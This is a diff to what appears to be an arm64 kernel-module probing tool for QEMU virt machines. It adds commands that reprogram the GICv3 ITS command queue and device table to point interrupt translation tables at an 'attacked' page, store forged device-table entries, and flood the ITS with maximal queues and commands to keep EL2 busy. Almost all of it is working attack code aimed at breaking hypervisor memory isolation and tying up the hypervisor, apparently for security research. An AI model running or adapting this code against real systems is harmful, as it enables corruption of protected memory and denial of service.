@@ -19,6 +19,9 @@
  *   dma-read PAGE        a device reads the page, and shows what it read (a QEMU with -device vmcoreinfo)
  *   dma-write PAGE       the same device writes four bytes at the start of the page
  *   gic PAGE             tell the interrupt controller (a QEMU virt machine's GICv3) that its tables and commands lie there; 0: in memory of ours
+ *   its-map PAGE         tell its ITS that a device's interrupt translation table lies there, and have an entry written; 0: in memory of ours
+ *   its-table PAGE       the same, by a store to the ITS's own table of devices, which is then named once more
+ *   its-long             give the ITS as much at a time as may be: queues, tables, commands
  *
  * An attempt runs with all interrupts masked, under exception vectors and a TTBR0 map of our own, so that whatever it raises is a result and no
  * oops. The map is one window of two pages: WINDOW is a page of the host's, the page after it what is attacked. Where the kernel uses
@@ -71,6 +74,26 @@
 #define ITS		0x08080000UL
 #define REDISTRIBUTOR	0x080a0000UL
 #define TABLES_ORDER	4			/* 64 KiB, as they are aligned */
+#define ITS_CBASER	0x80
+#define ITS_CWRITER	0x88
+#define ITS_CREADR	0x90
+#define ITS_DEVICES	0x100			/* GITS_BASER0 */
+#define ITS_VALID	(1UL << 63)
+#define ITS_WAITS	1000
+#define MAPD		0x08UL
+#define MAPTI		0x0aUL
+#define DEVICE		0x40UL			/* one that the machine has not */
+#define EVENT_BITS	5UL
+#define MOST_EVENT_BITS	16UL
+#define MAPC		0x09UL
+#define QUEUE_ORDER	8			/* 1 MiB, the largest queue */
+#define TABLE_ORDER	10			/* 4 MiB */
+#define QUEUE_PAGES	255UL			/* less one, as GITS_CBASER has them */
+#define TABLE_PAGES	(2UL << 8 | 63UL)	/* the same of 64 KiB each, GITS_BASER */
+#define COMMANDS	256
+#define INTERRUPT	8200UL
+/* An entry of the table of devices as QEMU's ITS keeps it (hw/intc/gicv3_internal.h): valid, bits of an event less one, address */
+#define DEVICE_ENTRY(at)	(1UL | (EVENT_BITS - 1) << 1 | (at) >> 8 << 6)
 
 /* esr 0: it was done. */
 struct outcome {
@@ -702,6 +725,113 @@ static void name_to_gic(u64 page)
 		free_pages(own, TABLES_ORDER);
 }
 
+/* Has the ITS execute these from a queue of ours. The kernel's gets its own back, of which everything is executed again. */
+static void run_commands(void __iomem *its, u64 *queue, unsigned int count)
+{
+	u64 before;
+	int i;
+
+	writel(0, its);
+	before = readq(its + ITS_CBASER);
+	writeq(virt_to_phys(queue) | ITS_VALID, its + ITS_CBASER);
+	writeq(0, its + ITS_CWRITER);
+	writel(1, its);
+	writeq(count * 32, its + ITS_CWRITER);
+	for (i = 0; i < ITS_WAITS && readq(its + ITS_CREADR) != count * 32; i++)
+		udelay(1);
+	say("its queue: read %llx of %x", readq(its + ITS_CREADR), count * 32);
+	writel(0, its);
+	writeq(before, its + ITS_CBASER);
+	writel(1, its);
+}
+
+static void name_to_its(bool by_table, u64 page)
+{
+	void __iomem *its = ioremap(ITS, PAGE_SIZE);
+	u64 *queue = (u64 *)get_zeroed_page(GFP_KERNEL), *own = (u64 *)get_zeroed_page(GFP_KERNEL);
+	const char *way = by_table ? "table" : "map";
+	u64 at = page ? page : own ? virt_to_phys(own) : 0, before;
+	unsigned int count = 0;
+
+	if (!its || !queue || !own) {
+		say("its %s %llx: no device for it", way, page);
+		return;
+	}
+	before = readq(its + ITS_DEVICES);
+	if (by_table) {
+		u64 place = (before & 0xfffffffff000UL) + DEVICE * 8;
+		struct outcome outcome = attempt(op_store, TARGET + (place & ~PAGE_MASK), DEVICE_ENTRY(at), place & PAGE_MASK, 0, 0);
+
+		say("its store %llx: esr %llx control %x table %llx", page, outcome.esr, readl(its), readq(its + ITS_DEVICES));
+		writel(0, its);
+		writeq(before, its + ITS_DEVICES);
+	} else {
+		queue[0] = MAPD | DEVICE << 32;
+		queue[1] = EVENT_BITS - 1;
+		queue[2] = at | ITS_VALID;
+		count++;
+	}
+	queue[count * 4] = MAPTI | DEVICE << 32;
+	queue[count * 4 + 1] = INTERRUPT << 32;
+	run_commands(its, queue, count + 1);
+	say("its %s %llx: own %llx table %llx %s", way, page, own[0], readq(its + ITS_DEVICES),
+	    readq(its + ITS_DEVICES) == before ? "as before" : "changed");
+	if (!by_table) {
+		queue[2] = 0;
+		run_commands(its, queue, 1);
+	}
+	iounmap(its);
+	free_page((unsigned long)queue);
+	free_page((unsigned long)own);
+}
+
+/* Each store as it is made by one that wants EL2 to be long at it; in between the kernel's interrupts. */
+static void give_much(void)
+{
+	void __iomem *its = ioremap(ITS, PAGE_SIZE);
+	u64 *queues[2] = { (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, QUEUE_ORDER), (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, QUEUE_ORDER) };
+	u64 *tables[2] = { (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, TABLE_ORDER), (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, TABLE_ORDER) };
+	u64 queue_before, table_before;
+	int i;
+
+	if (!its || !queues[0] || !queues[1] || !tables[0] || !tables[1]) {
+		say("its-long: no memory for it");
+		return;
+	}
+	writel(0, its);
+	queue_before = readq(its + ITS_CBASER);
+	table_before = readq(its + ITS_DEVICES);
+	for (i = 0; i < 4; i++)
+		writeq(virt_to_phys(queues[i & 1]) | ITS_VALID | QUEUE_PAGES, its + ITS_CBASER);
+	writeq(virt_to_phys(queues[0]) | ITS_VALID | QUEUE_PAGES, its + ITS_CBASER);
+	for (i = 0; i < 3; i++)
+		writeq(virt_to_phys(tables[i & 1]) | ITS_VALID | TABLE_PAGES, its + ITS_DEVICES);
+	say("its-long: named %s", readq(its + ITS_CBASER) >> 63 && readq(its + ITS_DEVICES) >> 63 ? "all" : "not all");
+	/* One device's table after the other, each as large as may be; then for others, whose tables lie in one place; then what is refused last. */
+	for (i = 0; i < COMMANDS; i++) {
+		u64 *words = queues[0] + i * 4;
+
+		words[0] = i < 240 ? MAPD | (i < 32 ? 0 : (u64)i) << 32 : MAPC;
+		words[1] = MOST_EVENT_BITS - 1;
+		words[2] = i < 240 ? virt_to_phys(queues[1]) + (i & 1) * 256 * 512 | ITS_VALID : 0xffff0000UL | ITS_VALID;
+	}
+	writeq(0, its + ITS_CWRITER);
+	writel(1, its);
+	writeq(COMMANDS * 32, its + ITS_CWRITER);
+	say("its-long: read %llx of %x", readq(its + ITS_CREADR), COMMANDS * 32);
+	attempt(op_store, TARGET, 0, virt_to_phys(tables[0]), 0, 0);
+	say("its-long: control %x table %s", readl(its), readq(its + ITS_DEVICES) >> 63 ? "named" : "given back");
+	writel(0, its);
+	writeq(table_before, its + ITS_DEVICES);
+	writeq(queue_before, its + ITS_CBASER);
+	writel(1, its);
+	iounmap(its);
+	for (i = 0; i < 2; i++) {
+		free_pages((unsigned long)queues[i], QUEUE_ORDER);
+		free_pages((unsigned long)tables[i], TABLE_ORDER);
+	}
+}
+
 static int command(char *line)
 {
 	u64 x[8] = {};
@@ -737,6 +867,10 @@ static int command(char *line)
 		write_by_device(x[0]);
 	else if (!strcmp(name, "gic"))
 		name_to_gic(x[0]);
+	else if (!strcmp(name, "its-map") || !strcmp(name, "its-table"))
+		name_to_its(!strcmp(name, "its-table"), x[0]);
+	else if (!strcmp(name, "its-long"))
+		give_much();
 	else {
 		for (way = 0; way < ARRAY_SIZE(ways) && strcmp(name, ways[way].name); way++)
 			;
